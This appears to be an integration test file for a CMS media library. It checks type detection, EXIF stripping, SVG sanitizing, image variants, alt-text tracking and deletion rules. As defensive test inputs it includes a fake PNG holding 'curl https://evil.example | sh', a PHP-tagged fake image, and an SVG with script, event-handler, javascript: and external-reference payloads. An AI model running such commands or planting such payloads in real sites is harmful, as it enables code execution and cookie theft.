// The media library against PostgreSQL: a file's type is read from its content, metadata is
// stripped, SVGs are sanitized, variants are made, nothing is stored from a refused upload,
// files in use cannot be deleted, and missing alt texts show on the translations dashboard.
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { updateFacts } from "@/lib/actions/content";
import { deleteMedia, updateMediaSettings, updateMediaText, uploadMedia } from "@/lib/actions/media";
import { runAction, type ActionResult } from "@/lib/actions/pipeline";
import { readAltTextMatrix } from "@/lib/admin/translation-matrix";
import { db } from "@/lib/db";
import { readOrganisationBySlug } from "@/lib/content/organisations";
import { MEDIA_LIMITS } from "@/lib/media/limits";
import { imageAttributes } from "@/lib/media/urls";
import { GET as serveMedia } from "@/app/media/[id]/[hash]/[file]/route";
import { signedIn } from "../helpers/auth";

let editor: { headers: Headers };
let translator: { headers: Headers };
const created: string[] = [];

beforeAll(async () => {
  editor = await signedIn("editor");
  translator = await signedIn("translator", ["fr"]);
});
afterAll(async () => {
  await db.organisation.updateMany({ where: { logoId: { in: created } }, data: { logoId: null } });
  await db.mediaAsset.deleteMany({ where: { id: { in: created } } });
  await db.$disconnect();
});

const noop = () => {};

async function upload(bytes: Buffer | string, name: string, fields: Record<string, string> = {}) {
  const file = new File([typeof bytes === "string" ? bytes : new Uint8Array(bytes)], name, {
    type: "image/png",
  });
  const result = (await runAction(uploadMedia, { file, ...fields }, editor.headers, noop)) as ActionResult<{
    id: string;
  }>;
  if (result.ok) created.push(result.data.id);
  return result;
}

const png = (width = 800, height = 400) =>
  sharp({ create: { width, height, channels: 3, background: "#174785" } })
    .png()
    .toBuffer();

describe("upload", () => {
  it("refuses a script named .png (and declared image/png), storing nothing", async () => {
    const before = await db.mediaAsset.count();
    const result = await upload("#!/bin/sh\ncurl https://evil.example | sh\n", "logo.png");
    expect(result).toMatchObject({
      ok: false,
      code: "VALIDATION",
      fieldErrors: { file: ["fileTypeUnsupported"] },
    });
    // A PNG signature in front of something else is refused by the decoder.
    const fake = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from("<?php"),
    ]);
    expect(await upload(fake, "fake.png")).toMatchObject({ ok: false, code: "VALIDATION" });
    expect(await db.mediaAsset.count()).toBe(before);
  });

  it("refuses a file over the size limit with its own message, storing nothing", async () => {
    const before = await db.mediaAsset.count();
    const big = Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(MEDIA_LIMITS.documentBytes)]);
    const result = await upload(big, "report.pdf");
    expect(result).toMatchObject({ ok: false, fieldErrors: { file: ["documentTooLarge"] } });
    expect(await db.mediaAsset.count()).toBe(before);
  });

  it("strips EXIF, GPS position included, from a JPEG, and makes WebP variants", async () => {
    const jpeg = await sharp({ create: { width: 1500, height: 1000, channels: 3, background: "#c00" } })
      .jpeg()
      .withExif({
        IFD0: { Make: "TestCam", Copyright: "Jane Doe" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "50/1 51/1 0/1",
          GPSLongitudeRef: "E",
          GPSLongitude: "4/1 21/1 0/1",
        },
      })
      .toBuffer();
    const input = await sharp(jpeg).metadata();
    // The test's file does carry a GPS directory (tag 0x8825) and the camera's name.
    expect(input.exif?.includes(Buffer.from([0x25, 0x88]))).toBe(true);
    expect(input.exif?.toString("latin1")).toContain("TestCam");
    const result = await upload(jpeg, "holiday.jpg", { alt_en: "A red square" });
    expect(result.ok).toBe(true);
    const asset = await db.mediaAsset.findUniqueOrThrow({
      where: { id: (result as { data: { id: string } }).data.id },
      include: { variants: { orderBy: { width: "asc" } }, texts: true },
    });
    expect(asset).toMatchObject({ mimeType: "image/jpeg", kind: "image", width: 1500, height: 1000 });
    const stored = await sharp(Buffer.from(asset.data)).metadata();
    expect(stored.exif).toBeUndefined();
    expect(stored.xmp).toBeUndefined();
    expect(Buffer.from(asset.data).toString("latin1")).not.toContain("TestCam");
    expect(asset.variants.map((v) => [v.width, v.format])).toEqual([
      [160, "webp"],
      [320, "webp"],
      [640, "webp"],
      [960, "webp"],
      [1280, "webp"],
      [1500, "webp"],
    ]);
    for (const v of asset.variants) {
      const meta = await sharp(Buffer.from(v.data)).metadata();
      expect(meta).toMatchObject({
        format: "webp",
        width: v.width,
        height: Math.round((v.width * 1000) / 1500),
      });
      expect(meta.exif).toBeUndefined();
    }
    expect(asset.texts).toMatchObject([{ locale: "en", alt: "A red square" }]);
    const entry = await db.auditLog.findFirst({ where: { action: "media.upload", targetId: asset.id } });
    expect(entry?.detail).toMatchObject({ filename: "holiday.jpg", mimeType: "image/jpeg" });
  });

  it("sanitizes an SVG: no script, event handler or external reference is left", async () => {
    const svg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" onload="alert(1)">
  <script>alert(document.cookie)</script>
  <rect width="120" height="60" fill="#174785" onclick="steal()"/>
  <image xlink:href="https://evil.example/track.png" width="1" height="1"/>
  <a href="javascript:alert(1)"><text x="10" y="30" fill="url(https://evil.example/x)">BE</text></a>
  <foreignObject><iframe src="https://evil.example"></iframe></foreignObject>
</svg>`;
    const result = await upload(svg, "logo.svg");
    expect(result.ok).toBe(true);
    const asset = await db.mediaAsset.findUniqueOrThrow({
      where: { id: (result as { data: { id: string } }).data.id },
      include: { variants: true },
    });
    const clean = Buffer.from(asset.data).toString("utf8");
    expect(asset.mimeType).toBe("image/svg+xml");
    expect(clean).toMatch(/^<svg[\s>]/);
    expect(clean).toContain("<rect");
    for (const bad of [
      "<script",
      "onload",
      "onclick",
      "evil.example",
      "javascript:",
      "foreignObject",
      "<image",
      "iframe",
    ])
      expect(clean, bad).not.toContain(bad);
    expect(asset).toMatchObject({ width: 120, height: 60 });
    expect(asset.variants.map((v) => v.width).sort((a, b) => a - b)).toEqual([160, 320, 640]);
  });

  it("refuses an SVG that is nothing but script", async () => {
    const result = await upload(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      "x.svg",
    );
    // What is left after sanitizing draws nothing: sharp cannot read a size from it, or it is refused as unsafe.
    expect(result).toMatchObject({ ok: false, code: "VALIDATION" });
  });

  it("stores a PDF as it is, without variants", async () => {
    const pdf = Buffer.from("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");
    const result = await upload(pdf, "plan.pdf", { decorative: "on" });
    expect(result.ok).toBe(true);
    const asset = await db.mediaAsset.findUniqueOrThrow({
      where: { id: (result as { data: { id: string } }).data.id },
      include: { variants: true },
    });
    // A document is never "decorative": that is a property of images.
    expect(asset).toMatchObject({
      kind: "document",
      mimeType: "application/pdf",
      decorative: false,
      variants: [],
    });
  });
});

describe("alt texts, settings, use and deletion", () => {
  let id: string;
  beforeAll(async () => {
    const result = await upload(await png(), "logo.png");
    id = (result as { data: { id: string } }).data.id;
  });

  it("flags a missing alt text on the translations dashboard until it is written, not for a decorative image", async () => {
    const cellsOf = async () => (await readAltTextMatrix()).rows.find((r) => r.id === id)?.cells;
    expect(await cellsOf()).toEqual({ nl: "missing", fr: "missing", de: "missing", en: "missing" });
    const totals = (await readAltTextMatrix()).totals;
    expect(totals.fr).toBeGreaterThanOrEqual(1);
    const saved = await runAction(
      updateMediaText,
      { id, locale: "fr", updatedAt: "", alt: "Logo de l'agence", caption: "" },
      translator.headers,
      noop,
    );
    expect(saved.ok).toBe(true);
    expect((await cellsOf())?.fr).toBe("present");
    const asset = await db.mediaAsset.findUniqueOrThrow({ where: { id } });
    const decorative = await runAction(
      updateMediaSettings,
      { id, updatedAt: asset.updatedAt.toISOString(), decorative: "on" },
      editor.headers,
      noop,
    );
    expect(decorative.ok).toBe(true);
    expect(await cellsOf()).toBeUndefined();
  });

  it("lets a translator edit only the texts of their languages, and refuses a stale save", async () => {
    const other = await runAction(
      updateMediaText,
      { id, locale: "nl", updatedAt: "", alt: "Logo", caption: "" },
      translator.headers,
      noop,
    );
    expect(other).toMatchObject({ ok: false, code: "FORBIDDEN" });
    // The first save of fr was made above: a second "first save" is refused as a conflict.
    const stale = await runAction(
      updateMediaText,
      { id, locale: "fr", updatedAt: "", alt: "Autre", caption: "" },
      translator.headers,
      noop,
    );
    expect(stale).toMatchObject({ ok: false, code: "CONFLICT", message: "mediaChanged" });
    const settings = await runAction(
      updateMediaSettings,
      { id, updatedAt: new Date(0).toISOString(), isPublic: "on" },
      editor.headers,
      noop,
    );
    expect(settings).toMatchObject({ ok: false, code: "CONFLICT" });
    expect(
      (await db.mediaText.findUniqueOrThrow({ where: { assetId_locale: { assetId: id, locale: "fr" } } }))
        .alt,
    ).toBe("Logo de l'agence");
  });

  it("serves only files in use or public, with immutable caching, and refuses to delete a logo", async () => {
    const asset = await db.mediaAsset.findUniqueOrThrow({ where: { id }, include: { variants: true } });
    const hash = asset.hash.slice(0, 16);
    const get = (file: string, h = hash) =>
      serveMedia(new Request(`http://localhost/media/${id}/${h}/${file}`), {
        params: Promise.resolve({ id, hash: h, file }),
      });
    expect((await get("320.webp")).status).toBe(404);
    const organisation = await db.organisation.findUniqueOrThrow({ where: { key: "bosa" } });
    const facts = await runAction(
      updateFacts,
      {
        type: "organisation",
        id: organisation.id,
        updatedAt: organisation.updatedAt.toISOString(),
        regionId: organisation.regionId,
        websiteUrl: organisation.websiteUrl ?? "",
        focusAreas: organisation.focusAreas,
        position: String(organisation.position),
        parentId: organisation.parentId ?? "",
        isLeadAgency: organisation.isLeadAgency ? "on" : "",
        logoId: id,
      },
      editor.headers,
      noop,
    );
    expect(facts.ok).toBe(true);
    // A facts save from a form without the logo field keeps the logo.
    const kept = await db.organisation.findUniqueOrThrow({ where: { id: organisation.id } });
    const again = await runAction(
      updateFacts,
      {
        type: "organisation",
        id: organisation.id,
        updatedAt: kept.updatedAt.toISOString(),
        regionId: kept.regionId,
        websiteUrl: kept.websiteUrl ?? "",
        focusAreas: kept.focusAreas,
        position: String(kept.position),
        parentId: kept.parentId ?? "",
        isLeadAgency: kept.isLeadAgency ? "on" : "",
      },
      editor.headers,
      noop,
    );
    expect(again.ok).toBe(true);
    expect((await db.organisation.findUniqueOrThrow({ where: { id: organisation.id } })).logoId).toBe(id);
    // The public profile reads the logo (not its bytes) with its alt text in the page's language.
    const slug = (
      await db.organisationTranslation.findFirstOrThrow({
        where: { organisationId: organisation.id, locale: "fr", status: "published" },
      })
    ).slug;
    const profile = await readOrganisationBySlug("fr", slug);
    // Marked decorative above: its alt text is empty on purpose, whatever the French one says.
    expect(profile?.logo).toMatchObject({ id, alt: "", width: 800, height: 400 });
    expect(profile?.logo).not.toHaveProperty("data");
    const attributes = imageAttributes(profile!.logo!, 320);
    expect(attributes).toMatchObject({ width: 800, height: 400, src: `/media/${id}/${hash}/320.webp` });
    expect(attributes.srcSet).toBe(
      [160, 320, 640, 800].map((w) => `/media/${id}/${hash}/${w}.webp ${w}w`).join(", "),
    );
    const response = await get("320.webp");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("image/webp");
    expect(response.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    expect((await sharp(Buffer.from(await response.arrayBuffer())).metadata()).width).toBe(320);
    expect((await get("original.png")).status).toBe(200);
    expect((await get("321.webp")).status).toBe(404);
    expect((await get("320.webp", "0000000000000000")).status).toBe(404);
    const refused = await runAction(deleteMedia, { id, confirm: "yes" }, editor.headers, noop);
    expect(refused).toMatchObject({ ok: false, code: "CONFLICT", message: "mediaInUse" });
    await db.organisation.update({ where: { id: organisation.id }, data: { logoId: null } });
    // A PDF is no logo.
    const pdf = await db.mediaAsset.findFirstOrThrow({ where: { id: { in: created }, kind: "document" } });
    const notImage = await runAction(
      updateFacts,
      {
        type: "organisation",
        id: organisation.id,
        updatedAt: (
          await db.organisation.findUniqueOrThrow({ where: { id: organisation.id } })
        ).updatedAt.toISOString(),
        regionId: organisation.regionId,
        focusAreas: organisation.focusAreas,
        position: String(organisation.position),
        logoId: pdf.id,
      },
      editor.headers,
      noop,
    );
    expect(notImage).toMatchObject({
      ok: false,
      code: "VALIDATION",
      fieldErrors: { logoId: ["notAnImage"] },
    });
    const deleted = await runAction(deleteMedia, { id, confirm: "yes" }, editor.headers, noop);
    expect(deleted.ok).toBe(true);
    expect(await db.mediaVariant.count({ where: { assetId: id } })).toBe(0);
    expect((await get("320.webp")).status).toBe(404);
  });
});
